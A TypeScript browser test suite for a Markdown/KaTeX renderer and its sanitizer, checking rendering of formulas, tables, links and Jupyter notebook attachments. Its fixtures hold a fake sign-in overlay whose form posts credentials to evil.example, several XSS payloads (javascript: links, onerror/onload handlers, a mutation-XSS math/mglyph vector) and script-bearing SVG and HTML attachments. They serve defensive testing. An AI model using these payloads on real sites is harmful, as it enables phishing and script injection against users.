import fs from 'node:fs';
import path from 'node:path';
import { build } from 'esbuild';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MarkdownOptions } from './render-markdown.ts';

/**
 * The Markdown renderer in a real browser (issue 9 point 8). The web project has no DOM (no jsdom),
 * and a sanitizer is only as good as the parser it runs on, so this bundles render-markdown.ts with
 * esbuild and runs it in Chromium (playwright-core, as the e2e suite): the browser's own HTML
 * parser, DOMPurify and KaTeX, no mocks. Skipped loudly without Chromium (fails under REQUIRE_ALL).
 */
const CHROMIUM = '/usr/bin/chromium';
const RENDERER = path.join(import.meta.dirname, 'render-markdown.ts');
/** A teaching notebook as public course repositories hold them (Jupyter's own JSON layout). */
const NOTEBOOK = path.join(import.meta.dirname, 'fixtures', 'newtons-method.ipynb');
const MATH = path.join(import.meta.dirname, 'render-math.ts');
const available = fs.existsSync(CHROMIUM);
if (!available) {
  if (process.env.REQUIRE_ALL === '1') throw new Error(`REQUIRE_ALL=1 but ${CHROMIUM} is missing`);
  console.warn(`\n*** web: ${CHROMIUM} is missing; the Markdown sanitizer test is SKIPPED ***\n`);
}

/** What the rendered tree holds, read by the browser. */
interface Inspection {
  html: string;
  text: string;
  /** Tags outside KaTeX output (the user's own markup). */
  userTags: string[];
  /** Attribute names outside KaTeX output. */
  userAttributes: string[];
  styled: string[];
  positioned: string[];
  classesOutsideKatex: string[];
  links: { href: string; rel: string; target: string }[];
  katex: number;
  katexDisplay: number;
  mathml: string[];
  /** Each paragraph as the reader sees it (innerText: a newline in the source is a space). */
  paragraphs: string[];
  lineBreaks: number;
  /** Images once the browser tried to load them; `width` is 0 for one that shows no picture. */
  images: { src: string | null; alt: string; width: number }[];
  code: string[];
  /** The text outside formulas and code, where a delimiter left unrendered would show. */
  prose: string;
}

/** A demand body drawing a fake 'session expired' sign-in page, and every other trick beside it. */
const ATTACK = [
  '# 审核',
  [
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">',
    '<h2>会话已过期，请重新登录</h2>',
    '<form action="https://evil.example/steal" method="post"><input name="phone"><input type="password" name="pw"><button>登录</button></form>',
    '</div>',
  ].join('\n'),
  '<style>body{display:none}</style>',
  '<iframe src="https://evil.example"></iframe>',
  '<div class="ant-modal-wrap ant-modal-mask mb-user-trigger">spoofed modal</div>',
  '<span class="katex" style="position:absolute;top:0">fake katex</span>',
  '[click](javascript:alert(1)) [data](data:text/html,x) [rel](/manage/x) [ok](https://example.org/a?b=1) <a href="mailto:a@example.org" target="_self" rel="opener">mail</a>',
  '<img src="x" onerror="alert(1)"> <img src="data:image/png;base64,AAAA" alt="data"> <img src="https://example.org/p.png" onload="alert(2)" alt="pic">',
  '<svg><a href="javascript:alert(3)"><text>svg</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>',
  '<a href="https://example.org" title="$x$">formula in an attribute</a>',
  '<p onclick="alert(5)" id="app" name="x">clicky</p>',
  '- [x] done\n- [ ] open',
  'Inline $x^2$ and display:',
  '$$\\int_0^1 f(x)\\,dx$$',
  '$\\raisebox{-80em}{far}\\kern{-90em}\\rule{500em}{500em}$',
].join('\n\n');

describe.skipIf(!available)('Markdown rendering in a real browser', () => {
  let browser: Browser;
  let page: Page;
  /** Every alert() anything rendered managed to call: none, ever. */
  const alerts: string[] = [];

  beforeAll(async () => {
    const bundle = await build({
      stdin: {
        contents: `import { renderMarkdown } from ${JSON.stringify(RENDERER)}; import { renderMath } from ${JSON.stringify(MATH)}; window.renderMarkdown = (s, o) => renderMarkdown(s, renderMath, o);`,
        resolveDir: import.meta.dirname,
        loader: 'ts',
      },
      bundle: true,
      write: false,
      format: 'iife',
      target: 'es2022',
      // KaTeX's stylesheet (and its fonts) do not matter to what the sanitizer lets through.
      loader: { '.css': 'empty' },
      logLevel: 'silent',
    });
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox'] });
    page = await browser.newPage();
    page.on('dialog', (dialog) => {
      alerts.push(dialog.message());
      void dialog.dismiss();
    });
    await page.setContent('<!doctype html><html><body><main id="root"></main></body></html>');
    await page.addScriptTag({ content: bundle.outputFiles[0]?.text ?? '' });
    expect(alerts).toEqual([]);
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
  });

  /** Renders `source` into the page as MarkdownView does and inspects the result. */
  const render = (source: string, options?: MarkdownOptions): Promise<Inspection> =>
    page.evaluate(
      async ({ src, options }) => {
        const root = document.getElementById('root') as HTMLElement;
        const out = (
          window as unknown as { renderMarkdown: (s: string, o?: MarkdownOptions) => DocumentFragment | string }
        ).renderMarkdown(src, options);
        if (typeof out === 'string') root.innerHTML = out;
        else root.replaceChildren(out);
        const all = [...root.querySelectorAll('*')];
        // KaTeX's output: a .katex span, wrapped in .katex-display for display math.
        const outside = all.filter((el) => !el.closest('.katex, .katex-display'));
        const describe = (el: Element) =>
          `${el.tagName.toLowerCase()}${el.className ? `.${String(el.className)}` : ''}`;
        const images = [...root.querySelectorAll('img')];
        await Promise.all(images.map((img) => img.decode().catch(() => undefined)));
        const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
        let prose = '';
        for (let node = walker.nextNode(); node; node = walker.nextNode())
          if (!node.parentElement?.closest('.katex, code, pre')) prose += node.textContent ?? '';
        return {
          html: root.innerHTML,
          text: root.textContent ?? '',
          userTags: [...new Set(outside.map((el) => el.tagName.toLowerCase()))].sort(),
          userAttributes: [...new Set(outside.flatMap((el) => el.getAttributeNames()))].sort(),
          styled: outside.filter((el) => el.hasAttribute('style')).map(describe),
          positioned: all
            .filter((el) => ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(el).position))
            .map(describe),
          classesOutsideKatex: outside.filter((el) => el.hasAttribute('class')).map(describe),
          links: [...root.querySelectorAll('a')].map((a) => ({
            href: a.getAttribute('href') ?? '',
            rel: a.getAttribute('rel') ?? '',
            target: a.getAttribute('target') ?? '',
          })),
          katex: root.querySelectorAll('.katex').length,
          katexDisplay: root.querySelectorAll('.katex-display').length,
          mathml: [...root.querySelectorAll('.katex math')].map((m) => m.outerHTML),
          paragraphs: [...root.querySelectorAll('p')].map((p) => p.innerText),
          lineBreaks: root.querySelectorAll('br').length,
          images: images.map((img) => ({ src: img.getAttribute('src'), alt: img.alt, width: img.naturalWidth })),
          code: [...root.querySelectorAll('code')].map((c) => c.textContent ?? ''),
          prose,
        };
      },
      { src: source, options },
    );

  it('a fake sign-in overlay keeps no form, input, style, frame, script, handler or position', async () => {
    const result = await render(ATTACK);
    for (const tag of ['form', 'input', 'button', 'style', 'iframe', 'script', 'svg', 'math', 'mglyph', 'textarea'])
      expect(result.userTags).not.toContain(tag);
    expect(result.userAttributes.filter((name) => name.startsWith('on'))).toEqual([]);
    expect(result.userAttributes).not.toContain('style');
    expect(result.userAttributes).not.toContain('class');
    expect(result.userAttributes).not.toContain('id');
    expect(result.userAttributes).not.toContain('name');
    expect(result.styled).toEqual([]);
    expect(result.positioned).toEqual([]);
    expect(result.classesOutsideKatex).toEqual([]);
    expect(result.html).not.toMatch(/ant-modal|mb-user-trigger|javascript:|data:text/);
    // The text stays readable: what was said is shown, only the markup is gone.
    expect(result.text).toContain('会话已过期，请重新登录');
    expect(result.text).toContain('spoofed modal');
    // Task lists show their state as text, not as inputs.
    expect(result.text).toContain('☑ done');
    expect(result.text).toContain('☐ open');
  });

  it('links go only to http, https and mailto, and open apart with rel="noopener noreferrer nofollow"', async () => {
    const result = await render(ATTACK);
    // Refused links (javascript:, data:, relative) are left as their text, not as dead links.
    expect(result.links.map((l) => l.href)).toEqual([
      'https://example.org/a?b=1',
      'mailto:a@example.org',
      'https://example.org',
    ]);
    expect(result.text).toContain('click data rel ok mail');
    for (const link of result.links) {
      expect(link.rel).toBe('noopener noreferrer nofollow');
      expect(link.target).toBe('_blank');
    }
    // A formula written inside an attribute stays its source text there.
    expect(result.html).toContain('title="$x$"');
  });

  it('formulas still render with KaTeX, inline and display, and only KaTeX output carries classes and styles', async () => {
    const result = await render(ATTACK);
    expect(result.katex).toBe(3);
    expect(result.katexDisplay).toBe(1);
    expect(result.mathml.some((m) => m.includes('<msup>') && m.includes('<mi>x</mi>'))).toBe(true);
    expect(result.mathml.some((m) => m.includes('∫'))).toBe(true);
    const plain = await render('$x^2$ and $$\\int_0^1 f(x)\\,dx$$ and `$not math$`');
    expect(plain.katex).toBe(2);
    expect(plain.text).toContain('$not math$');
  });

  it('\\(…\\) and \\[…\\] are formulas like $…$ and $$…$$, also with the backslash doubled as Jupyter writes them', async () => {
    const result = await render(
      [
        String.raw`Inline \(x^2\) and display \[\int_0^1 f(x)\,dx\] as MathJax writes them.`,
        String.raw`Jupyter's own form: \\(y_k\\) and \\[\sum_k y_k\\].`,
        '\\begin{aligned}\na &= b \\\\\nc &= d\n\\end{aligned}',
      ].join('\n\n'),
    );
    expect(result.katex).toBe(5);
    expect(result.katexDisplay).toBe(3);
    expect(result.mathml.some((m) => m.includes('<msup>') && m.includes('<mi>x</mi>'))).toBe(true);
    expect(result.prose).not.toMatch(/\\[()[\]]|\\(?:begin|end)\{|\$/);
  });

  it('code spans and fenced blocks keep \\(…\\), \\[…\\] and $…$ as their text; an escaped backslash is not a delimiter', async () => {
    const result = await render(
      [
        String.raw`In Python ${'`'}r"\(x\)"${'`'} and ${'``'}a ${'`'} \[y\]${'``'} are strings.`,
        '```latex\n\\[ E = mc^2 \\]\n$z$\n```',
        '~~~\n\\(w\\)\n~~~',
        String.raw`A backslash, then a parenthesis: \\\(not math\).`,
      ].join('\n\n'),
    );
    expect(result.katex).toBe(0);
    expect(result.code).toEqual([
      String.raw`r"\(x\)"`,
      String.raw`a ${'`'} \[y\]`,
      '\\[ E = mc^2 \\]\n$z$\n',
      '\\(w\\)\n',
    ]);
    expect(result.prose).toContain(String.raw`A backslash, then a parenthesis: \(not math).`);
  });

  it('a single newline breaks the line in text typed into forms; in a notebook (breaks: false) it joins the paragraph', async () => {
    const source = 'First sentence.\nSecond sentence.\n\nNext paragraph.';
    const form = await render(source);
    expect(form.lineBreaks).toBe(1);
    expect(form.paragraphs).toEqual(['First sentence.\nSecond sentence.', 'Next paragraph.']);
    const notebook = await render(source, { breaks: false });
    expect(notebook.lineBreaks).toBe(0);
    expect(notebook.paragraphs).toEqual(['First sentence. Second sentence.', 'Next paragraph.']);
    // Two trailing spaces are a hard break in CommonMark, as in Jupyter.
    expect((await render('line one  \nline two', { breaks: false })).lineBreaks).toBe(1);
  });

  it('a table keeps the alignment of its columns and an ordered list its first number', async () => {
    const result = await render('| k | x |\n|--:|:-:|\n| 1 | 2 |\n\n3. third\n4. fourth');
    expect(result.html).toContain('<td align="right">1</td>');
    expect(result.html).toContain('<td align="center">2</td>');
    expect(result.html).toContain('<ol start="3">');
  });

  it("a notebook cell's attachment:NAME image shows from the cell's own attachments, and nothing else becomes a data: URL", async () => {
    const png = notebookCells().find((cell) => cell.attachments)?.attachments?.['newton-step.png']?.['image/png'];
    if (typeof png !== 'string') throw new Error('the fixture notebook lost its figure');
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10" onload="alert(1)"><script>alert(2)</script><rect width="20" height="10"/></svg>';
    const attachments = {
      'newton-step.png': { 'image/png': png },
      '图 1.png': { 'image/png': [png.slice(0, 100), png.slice(100)] },
      'drawing.svg': { 'image/svg+xml': btoa(svg) },
      'page.html': { 'text/html': btoa('<script>alert(3)</script>') },
      'broken.png': { 'image/png': 'not base64 "><script>alert(4)</script>' },
    };
    const source = [
      '![step](attachment:newton-step.png) ![](<attachment:图 1.png>) ![svg](attachment:drawing.svg)',
      '![missing](attachment:missing.png) ![](attachment:page.html) ![broken](attachment:broken.png)',
      '<img src="attachment:newton-step.png" alt="raw html"> ![own data](data:image/png;base64,' + png + ')',
      '[a link](attachment:newton-step.png) ![](attachment:__proto__)',
    ].join('\n\n');
    const result = await render(source, { breaks: false, attachments });
    expect(result.images.map(({ src, alt, width }) => [src?.slice(0, 22) ?? null, alt, width])).toEqual([
      ['data:image/png;base64,', 'step', 240],
      ['data:image/png;base64,', '图 1.png', 240],
      ['data:image/svg+xml;bas', 'svg', 20],
      // Not found, not an image, not base64, or the author's own data: URL: a missing image with its alt text.
      [null, 'missing', 0],
      [null, 'page.html', 0],
      [null, 'broken', 0],
      ['data:image/png;base64,', 'raw html', 240],
      [null, 'own data', 0],
      [null, '__proto__', 0],
    ]);
    // A link never points at an attachment or a data: URL: it stays its text.
    expect(result.links).toEqual([]);
    expect(result.text).toContain('a link');
    expect(result.html).not.toMatch(/attachment:|<script|onload/);
    // Without the cell's attachments (Markdown outside notebooks), the same images show nothing.
    const elsewhere = await render(source);
    expect(elsewhere.images.filter((image) => image.src !== null)).toEqual([]);
    expect(alerts).toEqual([]);
  });

  it('a teaching notebook from a public course renders as in Jupyter: joined sentences, every formula, its pasted figure, table, lists and code', async () => {
    const cells = notebookCells().filter((cell) => cell.cell_type === 'markdown');
    const results = [];
    for (const cell of cells)
      results.push(await render(cell.source.join(''), { breaks: false, attachments: cell.attachments }));
    const [title, derivation, convergence, pitfalls] = results;
    const all = results.map((r) => r.html).join('\n');

    // One sentence per line in the file, one paragraph on the page: no line breaks anywhere.
    expect(results.map((r) => r.lineBreaks)).toEqual([0, 0, 0, 0]);
    expect(title?.paragraphs[0]).toMatch(/^This notebook belongs to the course Numerical Analysis I\. It introduces /);
    expect(title?.paragraphs[0]).toMatch(/ for solving a nonlinear equation .+\. We assume that /s);
    expect(derivation?.paragraphs[0]).toContain('The next iterate is the zero of this linear model, so setting the');

    // Every formula rendered: none left as TeX source in the prose.
    expect(results.map((r) => [r.katex, r.katexDisplay])).toEqual([
      [5, 0],
      [8, 2],
      [12, 1],
      [9, 0],
    ]);
    for (const result of results) expect(result.prose).not.toMatch(/\\[()[\]]|\\(?:begin|end)\{|\$/);

    // The pasted figure, from the cell's attachments.
    expect(derivation?.images).toEqual([
      { src: expect.stringMatching(/^data:image\/png;base64,/), alt: 'newton-step.png', width: 240 },
    ]);

    // The table (formulas in its cells, | inside them kept out of the columns), the lists and the code.
    expect(all).toMatch(/<table>/);
    expect(convergence?.html.match(/<tr>/g)).toHaveLength(6);
    expect(convergence?.html.match(/<th[ >]/g)).toHaveLength(3);
    expect(convergence?.html).toContain('<td align="right">5.9e-01</td>');
    expect(title?.html.match(/<li>/g)).toHaveLength(3);
    expect(pitfalls?.html.match(/<li>/g)).toHaveLength(3);
    expect(pitfalls?.html).toMatch(/<ol>/);
    expect(pitfalls?.code).toContain('abs(step) < tol');
    expect(pitfalls?.code).toContain(String.raw`r"\(x\)"`);
    expect(pitfalls?.code.some((c) => c.includes(String.raw`# \(not math\) and $not math$ either`))).toBe(true);
    expect(results.flatMap((r) => r.userTags.filter((tag) => ['h1', 'h2', 'h3'].includes(tag)))).toEqual([
      'h1',
      'h2',
      'h2',
      'h2',
      'h3',
    ]);
  });
});

interface NotebookCell {
  cell_type: string;
  source: string[];
  attachments?: Record<string, Record<string, unknown>>;
}
/** The cells of the fixture notebook, read as Jupyter's JSON. */
function notebookCells(): NotebookCell[] {
  return (JSON.parse(fs.readFileSync(NOTEBOOK, 'utf8')) as { cells: NotebookCell[] }).cells;
}
